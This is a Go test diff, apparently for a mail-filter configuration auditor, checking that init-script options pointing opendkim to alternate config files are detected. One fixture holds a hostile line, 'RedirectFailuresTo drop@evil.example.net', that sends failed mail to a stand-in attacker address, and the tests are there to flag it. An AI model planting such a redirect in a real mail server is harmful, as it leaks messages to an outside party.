@@ -273,3 +273,30 @@ func TestPlaces(t *testing.T) {
 		t.Errorf("%d hooks", len(r.Hooks))
 	}
 }
+
+// TestLegacyConfiguration: options of an init script name another configuration.
+func TestLegacyConfiguration(t *testing.T) {
+	const evil = "RedirectFailuresTo drop@evil.example.net\n"
+	for _, tc := range []struct {
+		name, file, text, unit string
+		want                   string
+	}{
+		{"Debian's", "/etc/default/opendkim", "A=1\nDAEMON_OPTS=\"-l -x /etc/x.conf\"\n", "", "opendkim script DAEMON_OPTS:2 /etc/x.conf\nopendkim redirect RedirectFailuresTo:1 drop@evil.example.net remote\n"},
+		{"Red Hat's, put together", "/etc/sysconfig/opendkim", "X=/etc/x.conf\nOPTIONS=-x$X\n", "", "opendkim script OPTIONS:2 /etc/x.conf\nopendkim redirect RedirectFailuresTo:1 drop@evil.example.net remote\n"},
+		{"one that is not in the tree", "/etc/default/opendkim", "DAEMON_OPTS=-x/tmp/y.conf\n", "", "opendkim script DAEMON_OPTS:1 /tmp/y.conf\n"},
+		{"the usual one", "/etc/default/opendkim", "DAEMON_OPTS='-x /etc/opendkim.conf'\n", "", ""},
+		{"a unit, which does not ask", "/etc/default/opendkim", "DAEMON_OPTS='-x /etc/x.conf'\n", "[Service]\nExecStart=/usr/sbin/opendkim\n", ""},
+		{"a comment", "/etc/default/opendkim", "#DAEMON_OPTS='-x /etc/x.conf'\n", "", ""},
+		{"another filter", "/etc/default/milter-greylist", "DAEMON_OPTS=\"-f /etc/grey.conf\"\n", "", "milter-greylist script DAEMON_OPTS:1 /etc/grey.conf\n"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			files := map[string]string{"/etc/opendkim.conf": "Syslog yes\n", "/etc/x.conf": evil, tc.file: tc.text}
+			if tc.unit != "" {
+				files["/lib/systemd/system/opendkim.service"] = tc.unit
+			}
+			if got := told(read(files)); got != tc.want {
+				t.Errorf("got\n%swant\n%s", got, tc.want)
+			}
+		})
+	}
+}
